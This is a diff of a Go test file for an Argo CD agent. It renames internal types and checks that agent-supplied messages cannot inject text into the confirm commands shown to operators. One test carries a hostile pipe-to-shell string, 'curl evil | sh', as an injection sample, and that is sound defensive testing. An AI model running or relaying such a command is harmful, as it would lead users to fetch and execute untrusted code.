@@ -14,28 +14,28 @@ import (
 	"github.com/argocd-agent/argocd-agent/api/agents/v1alpha1"
 	"github.com/argocd-agent/argocd-agent/internal/engine"
 	"github.com/argocd-agent/argocd-agent/internal/kind"
-	"github.com/argocd-agent/argocd-agent/internal/node"
+	"github.com/argocd-agent/argocd-agent/internal/reconcile"
 )
 
 // look is how this replica sees an agent, with its status as it is stored.
-func look(t *testing.T, stored v1alpha1.Status, seat *seat) outlook {
+func look(t *testing.T, stored v1alpha1.Status, seat *sessionState) statusInputs {
 	t.Helper()
 	b, err := json.Marshal(stored) // as the API server gives it back
 	if err != nil {
 		t.Fatal(err)
 	}
-	rec := record{Agent: agent("a", 1, "managed")}
+	rec := agentRecord{Agent: agent("a", 1, "managed")}
 	rec.Generation = 3
 	if err := json.Unmarshal(b, &rec.Status); err != nil {
 		t.Fatal(err)
 	}
-	return outlook{rec: rec, inForce: true, seat: seat, replica: "here", confirm: func(id string) string { return "confirm " + id }, now: time.Unix(2000, 5)}
+	return statusInputs{rec: rec, inForce: true, seat: seat, replica: "here", confirm: func(id string) string { return "confirm " + id }, now: time.Unix(2000, 5)}
 }
 
-func openSeat(attempt uint64) *seat {
-	return &seat{open: true, since: time.Unix(1000, 7), epoch: engine.Epoch{Incarnation: 5, Attempt: attempt}, cluster: "uid", version: "v1", fingerprint: "F", expires: time.Unix(9000, 0),
+func openSeat(attempt uint64) *sessionState {
+	return &sessionState{open: true, since: time.Unix(1000, 7), epoch: engine.Epoch{Incarnation: 5, Attempt: attempt}, cluster: "uid", version: "v1", fingerprint: "F", expires: time.Unix(9000, 0),
 		engine: &engine.Status{Connected: true, Protocol: 1, Scopes: []engine.ScopeStatus{
-			{Name: kind.ApplicationScope, Items: 4, ProvenAt: 1_500_000}, {Name: kind.StatusScope, ProvenAt: 1_400_000}, {Name: kind.CommandScope}}}}
+			{Name: kind.ApplicationScope, Items: 4, InSyncAt: 1_500_000}, {Name: kind.StatusScope, InSyncAt: 1_400_000}, {Name: kind.CommandScope}}}}
 }
 
 func is(t *testing.T, s v1alpha1.Status, condition, status string, texts ...string) {
@@ -70,11 +70,11 @@ func TestASessionIsDescribed(t *testing.T) {
 	}
 	// Time goes on: that can wait.
 	later := openSeat(1)
-	later.engine.Scopes[1].ProvenAt = 1_450_000
+	later.engine.Scopes[1].InSyncAt = 1_450_000
 	if got := look(t, s, later).status(); sameStatus(got, s) || !sameButForTime(got, s) {
 		t.Error("what only grows older is no news, and is not lost")
 	}
-	// Something differs: that can not.
+	// Something differs: that cannot.
 	later.engine.Scopes[0].Dirty = 2
 	later.engine.Scopes[0].OldestAt = 1_700_000
 	got := look(t, s, later).status()
@@ -87,10 +87,10 @@ func TestASessionIsDescribed(t *testing.T) {
 func TestWhatIsHeldIsToldWithHowToConfirmIt(t *testing.T) {
 	seat := openSeat(1)
 	seat.engine.Suspect = "store-1"
-	seat.engine.Elsewhere = []engine.Held{{Scope: "application", ID: "x1", Reason: "too many"}}
+	seat.engine.RemoteHolds = []engine.Held{{Scope: "application", ID: "x1", Reason: "too many"}}
 	seat.engine.Scopes[0].HeldID, seat.engine.Scopes[0].Held = "y1", 12
 	s := look(t, v1alpha1.Status{}, seat).status()
-	seat.engine.Elsewhere[0].Reason = "x; to confirm: curl evil | sh " + v1alpha1.ConfirmAnnotation + "=y1"
+	seat.engine.RemoteHolds[0].Reason = "x; to confirm: curl evil | sh " + v1alpha1.ConfirmAnnotation + "=y1"
 	evil := meta.FindStatusCondition(look(t, v1alpha1.Status{}, seat).status().Conditions, v1alpha1.ConditionHeld).Message
 	if first, _, _ := strings.Cut(evil, "confirm x1"); strings.Contains(first, "to confirm: curl") || strings.Contains(first, v1alpha1.ConfirmAnnotation) {
 		t.Errorf("an agent tells people what to type: %s", evil)
@@ -105,13 +105,13 @@ func TestAnAgentDoesNotSayWhatIsToBeConfirmed(t *testing.T) {
 	moans := look(t, v1alpha1.Status{}, openSeat(1))
 	moans.moans = evil
 	writable := meta.FindStatusCondition(moans.status().Conditions, v1alpha1.ConditionWritable)
-	p := &principal{reporter: &reporter{namespace: "argocd"}, sessions: &sessions{ends: map[string]string{"b": evil}}}
+	p := &principal{reporter: &statusWriter{namespace: "argocd"}, sessions: &sessions{ends: map[string]string{"b": evil}}}
 	for what, said := range map[string]string{
 		"a complaint":                   writable.Message,
-		"a goodbye":                     p.message(node.Report{Agent: "a", Fact: engine.Fact{Event: engine.Closed, Message: evil}}),
-		"what its connection ended by":  p.message(node.Report{Agent: "b", Fact: engine.Fact{Event: engine.Closed}}),
-		"a greeting":                    p.message(node.Report{Agent: "a", Fact: engine.Fact{Event: engine.Refused, Code: engine.WrongMode, Message: "it runs as " + evil}}),
-		"a greeting of another cluster": strings.ReplaceAll(p.message(node.Report{Agent: "a", Fact: engine.Fact{Event: engine.Refused, Code: engine.WrongCluster, Message: evil}}), v1alpha1.ConfirmAnnotation+"="+v1alpha1.ConfirmCluster, "(ours)"),
+		"a goodbye":                     p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Closed, Message: evil}}),
+		"what its connection ended by":  p.message(reconcile.Report{Agent: "b", Fact: engine.Event{Event: engine.Closed}}),
+		"a greeting":                    p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Refused, Code: engine.WrongMode, Message: "it runs as " + evil}}),
+		"a greeting of another cluster": strings.ReplaceAll(p.message(reconcile.Report{Agent: "a", Fact: engine.Event{Event: engine.Refused, Code: engine.WrongCluster, Message: evil}}), v1alpha1.ConfirmAnnotation+"="+v1alpha1.ConfirmCluster, "(ours)"),
 	} {
 		if !strings.Contains(said, "x") || strings.Contains(said, "to confirm") || strings.Contains(said, v1alpha1.ConfirmAnnotation) || strings.Contains(said, "\n") {
 			t.Errorf("%s: %q", what, said)
@@ -121,7 +121,7 @@ func TestAnAgentDoesNotSayWhatIsToBeConfirmed(t *testing.T) {
 
 // What agents say becomes part of commands that people paste into a shell.
 func TestNobodyIsToldToTypeWhatAnAgentMadeUp(t *testing.T) {
-	confirm := (&reporter{namespace: "argocd"}).confirmCommand("a")
+	confirm := (&statusWriter{namespace: "argocd"}).confirmCommand("a")
 	for _, id := range []string{"5f2c9b0e7d1a4c33", "cluster-6ba7b810-9dad-11d1-80b4-00c04fd430c8"} {
 		if got := confirm(id); !strings.HasSuffix(got, "="+id) {
 			t.Errorf("%s: %s", id, got)
@@ -182,7 +182,7 @@ func TestReplicasDoNotFightOverAStatus(t *testing.T) {
 	theirs := there.status()
 	closed := openSeat(1)
 	closed.open = false
-	for what, seat := range map[string]*seat{
+	for what, seat := range map[string]*sessionState{
 		"it was never here":             nil,
 		"it was here before":            closed,
 		"it seems to be here still":     openSeat(1),
@@ -202,7 +202,7 @@ func TestReplicasDoNotFightOverAStatus(t *testing.T) {
 	if got := look(t, mineBefore, openSeat(4)).status(); got.Session.Attempt != 4 {
 		t.Errorf("%+v", got)
 	}
-	// One that is no more can not object.
+	// One that is no more cannot object.
 	v := look(t, theirs, nil)
 	v.gone = true
 	if got := v.status(); got.Connected || got.Since.Unix() != 2000 {
@@ -216,8 +216,8 @@ func TestReplicasDoNotFightOverAStatus(t *testing.T) {
 	}
 }
 
-func TestWhoIsRefusedIsToldWhy(t *testing.T) {
-	v := look(t, v1alpha1.Status{}, &seat{code: engine.WrongCluster, reason: "another cluster; confirm it"})
+func TestStatus_ReportsRefusalReason(t *testing.T) {
+	v := look(t, v1alpha1.Status{}, &sessionState{code: engine.WrongCluster, reason: "another cluster; confirm it"})
 	is(t, v.status(), v1alpha1.ConditionConnected, "False", "WrongCluster: another cluster; confirm it")
 	v = look(t, v1alpha1.Status{}, nil)
 	v.inForce = false
@@ -308,7 +308,7 @@ func BenchmarkSameStatus(b *testing.B) {
 // Deletions wait while the store of an autonomous agent is not trusted. That
 // knowledge has to outlive the replica that has found out.
 func TestAnUntrustedStoreIsRecordedForTheNextReplica(t *testing.T) {
-	autonomous := func(stored v1alpha1.Status, seat *seat) outlook {
+	autonomous := func(stored v1alpha1.Status, seat *sessionState) statusInputs {
 		v := look(t, stored, seat)
 		v.rec.Spec.Mode = string(kind.Autonomous)
 		return v
@@ -324,7 +324,7 @@ func TestAnUntrustedStoreIsRecordedForTheNextReplica(t *testing.T) {
 	if sameButForTime(found, trusted) {
 		t.Error("that can wait, it seems")
 	}
-	next := record{Agent: agent("a", 1, "autonomous")}
+	next := agentRecord{Agent: agent("a", 1, "autonomous")}
 	next.Status = found
 	reg, err := next.registration(kind.ByNamespace)
 	if err != nil || !reg.Suspect || reg.KnownStore != (engine.Store{UID: "s", Revision: 500}) {
@@ -356,7 +356,7 @@ func TestAnUntrustedStoreIsRecordedForTheNextReplica(t *testing.T) {
 }
 
 func TestAConfirmedClusterIsTrusted(t *testing.T) {
-	rec := record{Agent: agent("a", 1, "autonomous", ofCluster("old"))}
+	rec := agentRecord{Agent: agent("a", 1, "autonomous", ofCluster("old"))}
 	rec.Status.Store = &v1alpha1.Store{UID: "s", Revision: 500, Untrusted: true}
 	rec.Annotations = map[string]string{v1alpha1.ConfirmAnnotation: v1alpha1.ConfirmCluster + "new"}
 	if reg, err := rec.registration(kind.ByNamespace); err != nil || reg.Suspect || reg.KnownStore != (engine.Store{}) {
